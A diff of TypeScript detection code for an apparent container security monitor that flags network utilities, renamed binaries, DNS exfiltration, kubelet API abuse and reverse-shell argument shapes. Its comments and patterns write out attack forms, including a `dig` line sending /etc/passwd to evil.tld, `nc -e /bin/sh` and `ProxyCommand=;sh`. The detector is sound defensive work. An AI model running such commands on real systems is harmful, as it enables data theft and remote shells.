@@ -4,8 +4,16 @@
  */
 import type { AncestorInfo, ExecEvent, Finding, ProcessInfo, Severity, Utility, Verdict } from "../model.js";
 import { maxSeverity, severityRank } from "../severity.js";
-import { describeCategory, executableName, lookupUtility, MULTICALL_BINARIES } from "./catalogue.js";
 import {
+  describeCategory,
+  executableName,
+  lookupPattern,
+  lookupUtility,
+  MULTICALL_BINARIES,
+} from "./catalogue.js";
+import { type ChannelFamily, DEFAULT_CHANNEL_FAMILIES, evaluateChannels } from "./channels.js";
+import {
+  type BudgetLimit,
   type CommandSegment,
   commandSegments,
   commandStart,
@@ -17,6 +25,7 @@ import {
   segmentBudget,
   shellPayload,
 } from "./command-line.js";
+import { type FlatScan, flatScan } from "./flat-scan.js";
 import { suspiciousLocation } from "./locations.js";
 import { exfiltrationLook, findCredentialEndpoint, hostOf, isExemptTarget } from "./network.js";
 import { MAX_ARGS, type ParsedArgs, type ParsedOption, parseArgs, specFor } from "./options.js";
@@ -54,6 +63,8 @@ interface Candidate {
   segment?: CommandSegment;
   /** Every segment of the session's command line, for exec sessions. */
   segments?: CommandSegment[];
+  /** Set when the utility ran under another name. */
+  renamed?: Renamed;
 }
 
 interface Assessment {
@@ -78,8 +89,36 @@ interface AncestorContext {
  * drops out and the finding names the most severe of the others; when every one is allowed, the
  * finding is the most severe of them (and the caller's allowlist suppresses it).
  */
-export function evaluate(event: ExecEvent, isAllowed?: (finding: Finding) => boolean): Verdict {
+export function evaluate(event: ExecEvent, options: EvaluateOptions = {}): Verdict {
   if (event?.inContainer !== true) return HOST_PROCESS;
+  const seed = evaluateSeed(event, options.isAllowed);
+  const families = options.channels ?? DEFAULT_CHANNELS;
+  if (families.size === 0 || (seed.kind === "finding" && seed.finding.severity === "critical")) return seed;
+  const channel = evaluateChannels(event, families);
+  if (channel.kind === "none") return seed;
+  if (channel.kind === "benign") return seed.kind === "none" ? channel : seed;
+  if (seed.kind !== "finding") return channel;
+  if (severityRank(channel.finding.severity) <= severityRank(seed.finding.severity)) return seed;
+  // The channel is the graver finding; the utility's own reasons follow its.
+  const reasons = [...new Set([...channel.finding.reasons, ...seed.finding.reasons])];
+  return { kind: "finding", finding: { ...channel.finding, reasons } };
+}
+
+/** Options of {@link evaluate}. */
+export interface EvaluateOptions {
+  /** Channel families to judge (CHANNEL_FAMILIES); {@link DEFAULT_CHANNEL_FAMILIES} when absent. */
+  channels?: ReadonlySet<ChannelFamily>;
+  /**
+   * The allowlist, asked about each utility of the event on its own segment: an allowed one drops out
+   * and never silences the others.
+   */
+  isAllowed?: (finding: Finding) => boolean;
+}
+
+const DEFAULT_CHANNELS: ReadonlySet<ChannelFamily> = new Set(DEFAULT_CHANNEL_FAMILIES);
+
+/** The seed rule "Network utility executed in container" alone. */
+function evaluateSeed(event: ExecEvent, isAllowed?: (finding: Finding) => boolean): Verdict {
   // One allowance for every command line of the event: a hostile event costs what one megabyte does.
   const budget = segmentBudget();
   // Analysis failures fail closed: a bug must never turn an attack into silence.
@@ -89,16 +128,32 @@ export function evaluate(event: ExecEvent, isAllowed?: (finding: Finding) => boo
   } catch (error) {
     return unanalysable(event, `its command line could not be analysed (${messageOf(error)})`);
   }
-  if (candidates.length === 0) return NOT_A_UTILITY;
-
   let context: AncestorContext;
   let contextFailure: string | undefined;
   try {
-    context = ancestorContext(event, budget);
+    context = candidates.length === 0 ? { feeds: [], segments: [] } : ancestorContext(event, budget);
   } catch (error) {
     context = { feeds: [], segments: [] };
     contextFailure = `the command lines of its ancestors could not be analysed (${messageOf(error)})`;
   }
+  // A reader limit was reached: what lay past it was not read structurally. Fail closed.
+  if (budget.exhausted !== undefined && budget.exhausted.size > 0) {
+    const cut = cutShort(event, budget.exhausted);
+    if (candidates.length === 0) return cut.verdict;
+    const verdict = judge(event, candidates, context, contextFailure, isAllowed);
+    return withCutShort(verdict, event, candidates, cut.scan, cut.reason);
+  }
+  if (candidates.length === 0) return NOT_A_UTILITY;
+  return judge(event, candidates, context, contextFailure, isAllowed);
+}
+
+function judge(
+  event: ExecEvent,
+  candidates: Candidate[],
+  context: AncestorContext,
+  contextFailure: string | undefined,
+  isAllowed?: (finding: Finding) => boolean,
+): Verdict {
   const executions: ExecutionsCache = new Map();
   const assessments = candidates.map((candidate) => assessSafely(candidate, event, context, executions));
   const open = isAllowed
@@ -143,6 +198,97 @@ function candidateFinding(event: ExecEvent, assessment: Assessment, contextFailu
   const severity =
     contextFailure === undefined ? assessment.severity : maxSeverity(assessment.severity, "medium");
   return { event, utility, process, severity, reasons: assessment.reasons };
+}
+
+/** The event's command lines as whole texts: the process's argv, then each ancestor's. */
+function commandTexts(event: ExecEvent): string[] {
+  const proc = event.process ?? ({ name: "" } as ProcessInfo);
+  const argv0 = text(proc.path) ?? text(proc.name) ?? "";
+  const out = [[argv0, ...strings(proc.args)].join(" ")];
+  for (const ancestor of ancestorList(event)) {
+    if (ancestor === null || typeof ancestor !== "object") continue;
+    const args = strings(ancestor.args);
+    if (args.length > 0) out.push([ancestorArgv0(ancestor) ?? "", ...args].join(" "));
+  }
+  return out;
+}
+
+const LIMIT_WORDS: Readonly<Record<BudgetLimit, string>> = {
+  depth: "nesting of shell payloads",
+  substitutions: "nesting of substitutions",
+  variables: "variables",
+  segments: "commands",
+  characters: "characters",
+  words: "words",
+};
+
+/** The flat scan of an event whose reading hit a limit, and the verdict it gives alone. */
+function cutShort(
+  event: ExecEvent,
+  limits: ReadonlySet<BudgetLimit>,
+): { verdict: Verdict; scan: FlatScan; reason: string } {
+  const scan = flatScan(commandTexts(event));
+  const which = [...limits].map((limit) => LIMIT_WORDS[limit]).join(", ");
+  const reason = `analysis was cut short (the reader's limit on ${which} was reached); the rest of the command line was scanned as a flat word list${scan.truncated ? ", itself cut at 8 MiB" : ""}`;
+  const utility = scan.utilities[0];
+  if (utility === undefined) return { verdict: NOT_A_UTILITY, scan, reason };
+  const process = event.process ?? { name: "" };
+  let severity: Severity = "medium";
+  for (const indicator of scan.indicators) severity = maxSeverity(severity, indicator.severity);
+  const names = scan.utilities.map((u) => u.name).join(", ");
+  const reasons = unique([
+    ...scan.indicators.map((i) => i.reason),
+    `${utility.name} (${describeCategory(utility.category)}) appears in a command line run in a container${names !== utility.name ? ` (with ${names})` : ""}`,
+    reason,
+  ]);
+  return {
+    verdict: { kind: "finding", finding: { event, utility, process, severity, reasons } },
+    scan,
+    reason,
+  };
+}
+
+/**
+ * A verdict of the structured reading, completed with what the flat scan saw: a finding at medium or
+ * above (a benign look counts for nothing when the rest was not read), saying that analysis was cut short.
+ */
+function withCutShort(
+  verdict: Verdict,
+  event: ExecEvent,
+  candidates: Candidate[],
+  scan: FlatScan,
+  reason: string,
+): Verdict {
+  if (verdict.kind === "none") return verdict;
+  const finding: Finding =
+    verdict.kind === "finding"
+      ? verdict.finding
+      : {
+          event,
+          utility: verdict.utility,
+          process: candidates[0]!.process,
+          severity: "low",
+          reasons: [
+            `${verdict.utility.name} (${describeCategory(verdict.utility.category)}) ran in a container; alone it would be benign (${verdict.why})`,
+          ],
+        };
+  let severity = maxSeverity(finding.severity, "medium");
+  const raising: string[] = [];
+  for (const indicator of scan.indicators) {
+    if (severityRank(indicator.severity) > severityRank(finding.severity)) raising.push(indicator.reason);
+    severity = maxSeverity(severity, indicator.severity);
+  }
+  const reasons = unique([...raising, ...finding.reasons, reason]);
+  // The most severe thing seen is about another utility than the one read: report that one.
+  const top = scan.indicators[0];
+  if (raising.length > 0 && top?.utility !== undefined && top.utility.name !== finding.utility.name) {
+    const process = {
+      name: top.utility.name,
+      ...(event.process?.user !== undefined ? { user: event.process.user } : {}),
+    };
+    return { kind: "finding", finding: { ...finding, utility: top.utility, process, severity, reasons } };
+  }
+  return { kind: "finding", finding: { ...finding, severity, reasons } };
 }
 
 function messageOf(error: unknown): string {
@@ -207,16 +353,102 @@ function findCandidates(event: ExecEvent, budget: SegmentBudget): Candidate[] {
     ...(path !== undefined ? { path } : {}),
     ...(cwd !== undefined ? { cwd } : {}),
   };
+  const comm = text(proc.comm);
   const byPath = path !== undefined ? lookupUtility(path) : undefined;
-  if (byPath !== undefined) return [{ ...base, utility: byPath, words: [byPath.name, ...args] }];
+  if (byPath !== undefined) {
+    // fexecve of a memory file names the process after its descriptor ("3"): no rename.
+    const fileless = suspiciousLocation(path!)?.kind;
+    const renamed = fileless === "memfd" || fileless === "fd" ? {} : renamedAs(byPath, [comm, name]);
+    return [{ ...base, utility: byPath, words: [byPath.name, ...args], ...renamed }];
+  }
   if (MULTICALL_BINARIES.has(executableName(path ?? name)) || MULTICALL_BINARIES.has(executableName(name))) {
     const first = args[0];
     const applet = first !== undefined && !first.startsWith("-") ? lookupUtility(first) : undefined;
     if (applet !== undefined) return [{ ...base, utility: applet, words: [applet.name, ...args.slice(1)] }];
   }
-  const byName = lookupUtility(name);
-  if (byName !== undefined) return [{ ...base, utility: byName, words: [byName.name, ...args] }];
+  const byName = lookupUtility(name) ?? (comm !== undefined ? lookupUtility(comm) : undefined);
+  if (byName !== undefined) {
+    const renamed = renamedAs(byName, [path, name, comm]);
+    return [{ ...base, utility: byName, words: [byName.name, ...args], ...renamed }];
+  }
+  // Nothing is called like a utility: the arguments may still have one's unmistakable shape.
+  const shaped = utilityByShape(args);
+  if (shaped !== undefined && (path ?? name) !== "") {
+    const as = executableName(path ?? name);
+    return [
+      {
+        ...base,
+        utility: shaped.utility,
+        words: [shaped.utility.name, ...args],
+        renamed: { as, by: shaped.why },
+      },
+    ];
+  }
   return [];
+}
+
+/**
+ * The other name a catalogued utility ran under, when the event shows one that is not the utility's,
+ * another name of the same tool (nc for nc.traditional through Debian's alternatives), a multi-call
+ * binary, or a placeholder of fileless execution (`/proc/self/fd/3`, memfd).
+ */
+function renamedAs(utility: Utility, names: (string | undefined)[]): { renamed?: Renamed } {
+  for (const value of names) {
+    if (value === undefined || value === "") continue;
+    const location = suspiciousLocation(value);
+    if (location?.kind === "fd" || location?.kind === "memfd") continue;
+    const as = executableName(value);
+    if (as === "" || as === utility.name || /[*?[]|^\d+$/.test(as) || MULTICALL_BINARIES.has(as)) continue;
+    const other = lookupUtility(as);
+    if (other !== undefined) continue;
+    return { renamed: { as, by: "name" } };
+  }
+  return {};
+}
+
+/** How a utility was recognised under another name: by the event's names, or by its arguments' shape. */
+interface Renamed {
+  as: string;
+  /** "name" when the event's own names disagree, else the arguments that give the utility away. */
+  by: string;
+}
+
+const URL_OPERAND = /^(?:https?|ftp|tftp):\/\/[^\s/]/i;
+const SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|a|z|k)?sh$/;
+
+/**
+ * A utility recognised by arguments no other common program takes together: curl's `-fsSL`-style
+ * cluster with a URL, wget's `-qO-` with a URL, netcat's `-e /bin/sh` with a host and a port or its
+ * `-lvnp PORT` listener, socat's `exec:`/`tcp-connect:` addresses.
+ */
+function utilityByShape(args: readonly string[]): { utility: Utility; why: string } | undefined {
+  if (args.length === 0 || args.length > 64) return undefined;
+  const url = args.find((a) => URL_OPERAND.test(a));
+  const pick = (name: string, why: string) => ({ utility: lookupUtility(name)!, why });
+  if (url !== undefined) {
+    const cluster = args.find((a) => /^-[fsSLkOIi#]{3,}$/.test(a) && a.includes("L") && /[sS]/.test(a));
+    if (cluster !== undefined) return pick("curl", `${cluster} ${url}`);
+    const wget = args.find((a) => /^-q?O-?$/.test(a) && a.length >= 3);
+    if (wget !== undefined) return pick("wget", `${wget} ${url}`);
+  }
+  const e = args.findIndex((a) => a === "-e" || a === "-c");
+  const port = args.some((a) => /^\d{1,5}$/.test(a));
+  if (e !== -1 && SHELL_PATH.test(args[e + 1] ?? "") && port) return pick("nc", args.join(" "));
+  const listen = args.find((a) => /^-(?=[lvnp]*l)(?=[lvnp]*p)[lvnp]{3,4}$/.test(a));
+  if (listen !== undefined && port) return pick("nc", args.join(" "));
+  // Case as the prefilter's PREFILTER_HINT knows it: lower or upper, not mixed.
+  const socat = args.find((a) =>
+    /^(?:exec|EXEC|system|SYSTEM|tcp-connect|TCP-CONNECT|tcp4|TCP4|tcp6|TCP6|openssl-connect|OPENSSL-CONNECT):/.test(
+      a,
+    ),
+  );
+  if (
+    socat !== undefined &&
+    args.some((a) => /^(?:tcp|udp|openssl)[\w-]*:|^exec:|^-$|^stdio$/i.test(a) && a !== socat)
+  ) {
+    return pick("socat", args.join(" "));
+  }
+  return undefined;
 }
 
 function sessionCandidates(
@@ -239,7 +471,7 @@ function sessionCandidates(
     const words = segment.argv.slice(start);
     const head = words[0];
     if (head === undefined) continue;
-    const utility = lookupUtility(head);
+    const utility = lookupCommand(head);
     if (utility === undefined) continue;
     const multicall = start > 0 && MULTICALL_BINARIES.has(executableName(segment.argv[start - 1]!));
     const exe = multicall ? segment.argv[start - 1]! : head;
@@ -264,6 +496,16 @@ function sessionCandidates(
     });
   }
   return out;
+}
+
+/** A command word's utility: by its exact name, or by the shell pattern it is (`/???/???/c?rl`). */
+function lookupCommand(word: string): Utility | undefined {
+  return lookupUtility(word) ?? lookupPattern(word);
+}
+
+/** Names of one tool: a netcat is a netcat whatever its package calls it (nc, nc.openbsd, ncat…). */
+function sameTool(a: string | undefined, b: string): boolean {
+  return a === b || (a !== undefined && NETCATS.has(a) && NETCATS.has(b));
 }
 
 function ancestorList(event: ExecEvent): AncestorInfo[] {
@@ -305,7 +547,7 @@ function ancestorContext(event: ExecEvent, budget: SegmentBudget): AncestorConte
     for (const segment of segments) {
       if (segment.depth === 0) continue;
       const words = commandWords(segment.argv);
-      const utility = words[0] !== undefined ? lookupUtility(words[0]) : undefined;
+      const utility = words[0] !== undefined ? lookupCommand(words[0]) : undefined;
       if (utility === undefined) continue;
       const feed = feedsInterpreter(segment);
       if (feed !== undefined)
@@ -509,7 +751,15 @@ function assess(
     break;
   }
   const targets = targetsOf(name, utility, parsed);
-  const runtimeHosts = parsed.operands.map(substitutedHost).filter((h): h is string => h !== undefined);
+  // What the shell expanded before the process started is only visible in the command line that ran
+  // it: `sh -c 'dig $(cat /etc/passwd | base64 | head -c 60).evil.tld'` shows the data, dig's argv not.
+  const written = candidate.segment === undefined ? writtenInAncestors(candidate, context) : [];
+  const writtenArgs = written.map((s) =>
+    parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(name)),
+  );
+  const runtimeHosts = [parsed, ...writtenArgs]
+    .flatMap((p) => p.operands.map(substitutedHost))
+    .filter((h): h is string => h !== undefined);
   for (const host of new Set([...targets.hosts, ...runtimeHosts])) {
     const look = exfiltrationLook(host);
     if (look === undefined) continue;
@@ -518,8 +768,24 @@ function assess(
     add("high", `${name} ${what} like DNS exfiltration (${look}): ${quote(host)}`);
     break;
   }
-  const upload = uploads(name, parsed, segment);
+  const upload =
+    uploads(name, parsed, segment) ??
+    writtenArgs.map((p) => commandOutputSent(p)).find((u) => u !== undefined);
   if (upload !== undefined) add("high", `${name} ${upload}`);
+  const kubelet = kubeletCall(name, parsed);
+  if (kubelet !== undefined) add(kubelet.severity, kubelet.reason);
+  const shown = segment ?? written[0];
+  const head = shown === undefined ? undefined : commandWords(shown.argv)[0];
+  if (head !== undefined && lookupUtility(head) === undefined && lookupPattern(head) !== undefined) {
+    add(
+      "high",
+      `${name} is called through a shell pattern (${quote(head)}), which hides its name from matching`,
+    );
+  }
+  const stage = shown === undefined ? undefined : decodedStageOf(shown);
+  if (stage !== undefined) {
+    add("high", `${name} runs in a ${stage}-encoded script that the command line decodes and executes`);
+  }
   for (const output of outputs) {
     const resolved = resolvePath(candidate.cwd, output.path);
     if (resolved === undefined) continue;
@@ -534,22 +800,42 @@ function assess(
     break;
   }
 
+  const renamed = candidate.renamed;
+  if (renamed !== undefined) {
+    // Masquerading (MITRE T1036.003): a network tool copied or linked under a harmless-looking name.
+    const where =
+      candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
+    const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
+    add(
+      renamed.by === "name" || where !== undefined ? "high" : "medium",
+      `${name} renamed to ${quote(renamed.as)}${shape}`,
+    );
+  }
   if (candidate.path !== undefined) {
     const location = suspiciousLocation(candidate.path, candidate.cwd);
     if (location !== undefined)
       add("medium", `the utility ${quote(candidate.path)} runs from ${location.words}`);
   }
   const lineage = lineageOf(candidate, event);
+  const expected: string[] = [];
   lineage.forEach((ancestor, index) => {
     const where = ancestor.path ?? ancestor.name;
     if (where === undefined) return;
     const location = suspiciousLocation(where);
     if (location === undefined) return;
+    const known = knownServiceScript(where, lineage.slice(index + 1), name, args);
+    if (known !== undefined) {
+      expected.push(
+        `${index === 0 ? "parent" : "ancestor"} ${quote(where)} is ${known}; its location is expected`,
+      );
+      return;
+    }
     add("medium", `${index === 0 ? "parent" : "ancestor"} ${quote(where)} runs from ${location.words}`);
   });
 
   const session = event.viaExecSession === true ? " through an exec session" : "";
   add("low", `${name} (${describeCategory(utility.category)}) ran in a container${session}`);
+  for (const reason of expected) add("low", reason);
 
   let severity: Severity = "low";
   for (const indicator of indicators) severity = maxSeverity(severity, indicator.severity);
@@ -585,8 +871,99 @@ function sameCommandInAncestors(candidate: Candidate, context: AncestorContext):
     if (segment.depth === 0) continue;
     const words = commandWords(segment.argv);
     const head = words[0];
-    if (head === undefined || lookupUtility(head)?.name !== candidate.utility.name) continue;
+    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
     if (words.slice(1).join(" ") === want) return segment;
+  }
+  return undefined;
+}
+
+const S6_SERVICE_SCRIPT =
+  /^\/(?:var\/)?run\/(?:s6-rc\/servicedirs|service|s6\/services|s6\/legacy-services|s6\/db\/servicedirs)\/[A-Za-z0-9@._-]+\/(?:run|finish|data\/check)$/;
+const ACME_SH = /^(?:\/root|\/home\/[A-Za-z0-9._-]+)\/\.acme\.sh\/acme\.sh$/;
+const WAIT_FOR_IT = /^\/home\/[A-Za-z0-9._-]+\/(?:[A-Za-z0-9._-]+\/){0,3}wait-for(?:-it)?(?:\.sh)?$/;
+const CRON = new Set(["cron", "crond", "supercronic", "busybox"]);
+
+/**
+ * Service scripts that live in writable places by design, each recognised narrowly (README "Quiet
+ * defaults"): an s6-overlay service's `run`/`finish` under /run supervised by s6-supervise; acme.sh's
+ * certificate renewal from ~/.acme.sh started by cron, fetching with curl or wget; wait-for-it.sh in
+ * an application's WORKDIR under /home checking a port with `nc -z host port`. Only the location
+ * indicator of that one ancestor is waived; every other indicator still counts.
+ */
+function knownServiceScript(
+  path: string,
+  above: { path?: string; name?: string }[],
+  utility: string,
+  args: readonly string[],
+): string | undefined {
+  const names = above.map((a) => executableName(a.path ?? a.name ?? ""));
+  if (S6_SERVICE_SCRIPT.test(path) && names[0] === "s6-supervise") return "an s6-overlay service script";
+  if (ACME_SH.test(path) && (utility === "curl" || utility === "wget") && names.some((n) => CRON.has(n))) {
+    return "acme.sh renewing certificates from cron";
+  }
+  if (WAIT_FOR_IT.test(path) && NETCATS.has(utility) && isPortCheck(args))
+    return "wait-for-it.sh checking a port";
+  return undefined;
+}
+
+/** `nc -z [-v] [-w N] HOST PORT`: a port check and nothing else. */
+function isPortCheck(args: readonly string[]): boolean {
+  let zero = false;
+  const operands: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const arg = args[i]!;
+    if (/^-[zv]+$/.test(arg)) zero ||= arg.includes("z");
+    else if (arg === "-w") i++;
+    else if (/^-w\d+$/.test(arg)) continue;
+    else if (arg.startsWith("-")) return false;
+    else operands.push(arg);
+  }
+  return zero && operands.length === 2 && /^\d{1,5}$/.test(operands[1]!);
+}
+
+/** Segments below the top level of the ancestors' command lines that run the same tool, at most 64. */
+function writtenInAncestors(candidate: Candidate, context: AncestorContext): CommandSegment[] {
+  const out: CommandSegment[] = [];
+  for (const segment of context.segments) {
+    if (segment.depth === 0) continue;
+    const head = commandWords(segment.argv)[0];
+    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
+    out.push(segment);
+    if (out.length >= 64) break;
+  }
+  return out;
+}
+
+/** The encoding of a decoded script that `segment` runs in, looking up its payload chain. */
+function decodedStageOf(segment: CommandSegment): string | undefined {
+  for (let node: CommandSegment | undefined = segment, k = 0; node !== undefined && k < 16; k++) {
+    const runner: CommandSegment | undefined = node.payloadOf;
+    if (runner?.decodedStage !== undefined) return runner.decodedStage;
+    node = runner ?? node.substitutionOf?.segment;
+  }
+  return undefined;
+}
+
+/**
+ * Calls of the kubelet's API (port 10250, read-only 10255) by a download tool: `/run/…` and `/exec/…`
+ * run commands in other pods' containers (Microsoft's threat matrix for Kubernetes, MITRE T1609);
+ * `/pods`, `/runningpods` and `/configz` list what runs on the node. Health checks are left alone.
+ */
+function kubeletCall(name: string, parsed: ParsedArgs): Indicator | undefined {
+  if (name !== "curl" && name !== "wget" && name !== "wget2") return undefined;
+  for (const operand of [...parsed.operands, ...options(parsed, "--url").map((o) => o.value ?? "")]) {
+    const match = /^(?:https?:\/\/)?(?:\[[^\]]+\]|[^/:?#]+):(10250|10255)(\/[^?#]*)?/i.exec(operand);
+    if (match === null) continue;
+    const path = match[2] ?? "/";
+    if (/^\/(?:run|exec|attach|portForward|cri)\//i.test(path)) {
+      return {
+        severity: "critical",
+        reason: `${name} runs a command through the kubelet API (${quote(operand)})`,
+      };
+    }
+    if (/^\/(?:pods|runningpods|configz|debug|containerLogs|logs)(?:\/|$)/i.test(path)) {
+      return { severity: "high", reason: `${name} queries the kubelet API (${quote(operand)})` };
+    }
   }
   return undefined;
 }
@@ -729,6 +1106,25 @@ function executesCommand(name: string, parsed: ParsedArgs): string | undefined {
     return parsed.options.find((o) => /^--on-(?:bt-)?download-/.test(o.name) && o.value !== undefined)
       ?.written;
   }
+  if (name === "wget" || name === "wget2") {
+    // --use-askpass=COMMAND runs COMMAND to ask for credentials; `-e use_askpass=…` is the same.
+    const askpass = option(parsed, "--use-askpass");
+    if (askpass?.value !== undefined && askpass.value !== "") return askpass.written;
+    return options(parsed, "-e", "--execute").find((o) => /^\s*use_?askpass\s*=\s*\S/i.test(o.value ?? ""))
+      ?.written;
+  }
+  if (name === "scp" || name === "sftp" || name === "rsync") {
+    // ssh's ProxyCommand/LocalCommand/KnownHostsCommand are run by a local shell (GTFOBins scp, sftp).
+    const ssh = sshCommandOption(parsed);
+    if (ssh !== undefined) return ssh;
+  }
+  if (name === "sftp") {
+    // -S runs another program in place of ssh, -D a local sftp server (GTFOBins sftp).
+    const program = option(parsed, "-S", "-D");
+    const first = program?.value?.trim().split(/\s+/)[0];
+    if (first !== undefined && !/^(?:ssh|sftp-server)$/.test(executableName(first))) return program?.written;
+    return undefined;
+  }
   if (name === "rsync" || name === "scp") {
     // The "remote shell" is normally ssh; any other program (sh -c …) is a local command run by the tool.
     const shell = option(parsed, name === "rsync" ? "-e" : "-S", "--rsh");
@@ -740,6 +1136,25 @@ function executesCommand(name: string, parsed: ParsedArgs): string | undefined {
   }
   if (name === "lftp") {
     return options(parsed, "-c", "-e").find((o) => /(?:^|;)\s*!/.test(o.value ?? ""))?.written;
+  }
+  return undefined;
+}
+
+/** An ssh `-o` option that runs a local command: `-o ProxyCommand=;sh 0<&2 1>&2`, `-oLocalCommand=…`. */
+function sshCommandOption(parsed: ParsedArgs): string | undefined {
+  for (const o of options(parsed, "-o")) {
+    const match =
+      /^\s*(ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)\s*[=\s]\s*(.*)$/i.exec(
+        o.value ?? "",
+      );
+    if (match === null) continue;
+    const key = match[1]!.toLowerCase();
+    const value = match[2]!.trim();
+    if (key === "permitlocalcommand" || value === "" || value.toLowerCase() === "none") continue;
+    // `ProxyCommand ssh -W %h:%p bastion` (and `nc %h %p`) is the ordinary jump host.
+    if (key === "proxycommand" && /^(?:\S*\/)?(?:ssh|nc|ncat|netcat|connect-proxy|corkscrew)\s/.test(value))
+      continue;
+    return o.written;
   }
   return undefined;
 }
@@ -776,6 +1191,43 @@ function remoteHost(operand: string): string | undefined {
   const match = /^(?:[^@/:]+@)?(\[[^\]]+\]|[^/:[\]]+):/.exec(operand);
   if (match === null) return undefined;
   return match[1]!.replace(/^\[|\]$/g, "");
+}
+
+const SOCAT_NETWORK =
+  /^(?:(?:tcp|udp|sctp|dccp)[46]?(?:-connect|-sendto|-datagram|-listen|-l|-recv|-recvfrom)?|openssl(?:-connect|-listen)?|ssl(?:-connect)?|socks[45]a?(?:-connect)?|proxy(?:-connect)?|vsock(?:-connect)?)$/;
+
+/**
+ * The file addresses of a socat invocation and which way data flows through them (GTFOBins socat
+ * file-download `open:FILE,creat`, file-upload `file:FILE`): with -u data goes from the first address to
+ * the second, with -U the other way, else both ways. Only when the other address is a network one.
+ */
+function socatFiles(parsed: ParsedArgs): { receives: string[]; sends: string[] } {
+  const out = { receives: [] as string[], sends: [] as string[] };
+  const addresses = parsed.operands.slice(0, 2).map((operand) => operand.split("!!")[0] ?? "");
+  if (addresses.length < 2) return out;
+  const kind = (address: string): { file?: string; network: boolean; createOnly?: boolean } => {
+    const colon = address.indexOf(":");
+    const type = colon === -1 ? "" : address.slice(0, colon).toLowerCase();
+    if (colon === -1 || type.includes("/")) {
+      // A bare path is GOPEN.
+      return address.includes("/") ? { file: address.split(",")[0]!, network: false } : { network: false };
+    }
+    const params = address.slice(colon + 1).split(",")[0] ?? "";
+    if (/^(?:open|file|gopen)$/.test(type)) return { file: params, network: false };
+    // CREATE truncates its file: data only goes into it.
+    if (/^creat(?:e)?$/.test(type)) return { file: params, network: false, createOnly: true };
+    return { network: SOCAT_NETWORK.test(type) };
+  };
+  const [left, right] = [kind(addresses[0]!), kind(addresses[1]!)];
+  const forward = option(parsed, "-U") === undefined;
+  const backward = option(parsed, "-u") === undefined;
+  const flow = (from: typeof left, to: typeof right) => {
+    if (from.network && to.file !== undefined) out.receives.push(to.file);
+    if (from.file !== undefined && to.network && from.createOnly !== true) out.sends.push(from.file);
+  };
+  if (forward) flow(left, right);
+  if (backward) flow(right, left);
+  return out;
 }
 
 function socatTargets(parsed: ParsedArgs): { hosts: string[]; via: string[] } {
@@ -1019,6 +1471,23 @@ function downloadOutputs(name: string, parsed: ParsedArgs, segment: CommandSegme
       if (operands[0] !== undefined && /^[a-z]+:\/\//i.test(operands[0])) into(".", inCwd);
       else if (operands[1] !== undefined) dir(operands[1], operands[1]);
       break;
+    case "socat":
+      for (const path of socatFiles(parsed).receives) file(path, path);
+      break;
+    case "sftp": {
+      // `sftp host:remote local` fetches remote into local (Atomic T1105 sftp pull).
+      if (operands.length >= 2 && hostOf(operands[0]!) !== undefined && /:./.test(operands[0]!)) {
+        file(operands[1], operands[1]!);
+      }
+      for (const command of sftpBatch(segment)) {
+        const [verb, remote, local] = command;
+        if (verb === "get" || verb === "reget") {
+          const target = local ?? (remote === undefined ? undefined : executableName(remote));
+          if (target !== undefined) file(target, `${verb} ${remote}${local ? ` ${local}` : ""}`);
+        }
+      }
+      break;
+    }
     case "scp":
     case "rsync": {
       const destination = operands[operands.length - 1];
@@ -1119,6 +1588,16 @@ function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | und
       if (!operands.slice(0, -1).some((o) => remoteHost(o) === undefined)) return undefined;
       return `copies local files to a remote host (${quote(destination)})`;
     }
+    case "socat": {
+      const sent = socatFiles(parsed).sends.find((path) => !NOT_FILES.has(path));
+      if (sent !== undefined) return `sends a file (${quote(sent)})`;
+      break;
+    }
+    case "sftp": {
+      const put = sftpBatch(segment).find(([verb]) => verb === "put" || verb === "reput");
+      if (put !== undefined) return `uploads a file (${quote(put.join(" "))})`;
+      return undefined;
+    }
     case "ftpput":
     case "ncftpput":
       return parsed.operands.length >= 2
@@ -1157,6 +1636,33 @@ function commandOutputSent(parsed: ParsedArgs): string | undefined {
   }
   const operand = parsed.operands.find((value) => READS_FILES.test(value));
   return operand === undefined ? undefined : `sends command output in its URL (${quote(operand)})`;
+}
+
+/**
+ * The batch commands an sftp reads from its input, when the command line shows them: a here-string
+ * (`sftp host <<< $'put /tmp/x'`, Atomic T1105 sftp push) or an `echo`/`printf` piped into it. Each
+ * command as its words (`["get", "/x", "/tmp/x"]`).
+ */
+function sftpBatch(segment: CommandSegment | undefined): string[][] {
+  if (segment === undefined) return [];
+  const texts = segment.redirects.filter((r) => r.op === "<<<").map((r) => r.target);
+  const from = segment.pipedFrom;
+  if (from !== undefined) {
+    const words = commandWords(from.argv);
+    if (words[0] === "echo" || words[0] === "printf")
+      texts.push(words.slice(1).join(" ").replace(/\\n/g, "\n"));
+  }
+  const out: string[][] = [];
+  for (const text of texts) {
+    for (const line of text.slice(0, 64 * 1024).split(/[\n;]/)) {
+      const words = line
+        .trim()
+        .split(/\s+/)
+        .filter((w) => w !== "");
+      if (words.length > 0 && words.length < 16) out.push(words);
+    }
+  }
+  return out;
 }
 
 /** Each path the command lines execute, with the segments that execute it. */
